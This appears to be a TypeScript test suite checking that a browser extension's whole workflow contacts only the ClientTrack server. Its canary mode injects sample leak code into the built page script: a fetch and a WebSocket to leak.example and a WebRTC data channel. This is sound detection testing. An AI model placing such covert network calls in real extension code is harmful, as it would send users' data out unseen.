import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openDesk } from '../browser/launch';
import { openWire } from '../browser/wire';
import { playCeWorkflow } from '../journey/ce-workflow';
import { startPractice } from '../practice';
import { writeSampleForm } from '../sample-form';
import { root } from '../setup.mjs';
import type { Report, Suite } from './suite';

/** One whole journey, from the received PDF to the returned ID, in a browser whose only way out is written down. */
async function playOnTheWire(report: Report, extensionDir: string | undefined, beforeRun?: (udpPort: number) => void): Promise<void> {
  const [wire, practice] = await Promise.all([openWire(), startPractice({ port: 0 })]);
  beforeRun?.(wire.udpPort);
  const options = extensionDir === undefined ? {} : { extensionDir };
  const desk = await openDesk({ ...options, practiceUrl: `${practice.url}/login/PRACTICE`, moreArguments: wire.browserArguments });
  try {
    await playCeWorkflow({ desk, practiceUrl: practice.url, form: await writeSampleForm(), onStep: async () => undefined });
  } finally {
    await desk.close();
    await practice.close();
    await wire.close();
  }
  for (const address of wire.strangers(practice.url)) report.wrong(`something asked for ${address}`);
  const passed = wire.passed(practice.url);
  report.count('requests to ClientTrack', passed);
  if (passed === 0) report.wrong('not one request passed the wire, so it proves nothing');
  report.done();
}

/** Each line of the canary is a way out that somebody could leave in the page script. */
const leaks = (udpPort: number): string => `
  fetch('http://leak.example/from-the-page-script', { mode: 'no-cors' }).catch(() => {});
  new WebSocket('ws://leak.example/socket');
  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
  connection.createDataChannel('leak');
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
`;

export const noNetwork: Suite = {
  name: 'no-network',
  title: 'a whole journey asks nobody but ClientTrack for anything',
  needs: 'browser',
  full: 1000,
  sample: 1,
  async run(_seed, count, report) {
    for (let played = 0; played < count; played += 1) await playOnTheWire(report, undefined);
  },
  async canary(_seed, _count, report) {
    const extensionDir = mkdtempSync(join(tmpdir(), 'transfer-desk-leak-'));
    cpSync(join(root, '.output/chrome-mv3'), extensionDir, { recursive: true });
    const script = join(extensionDir, 'clienttrack-page.js');
    const whole = readFileSync(script, 'utf8');
    await playOnTheWire(report, extensionDir, (udpPort) => writeFileSync(script, `{${leaks(udpPort)}}${whole}`));
    rmSync(extensionDir, { recursive: true });
  },
};
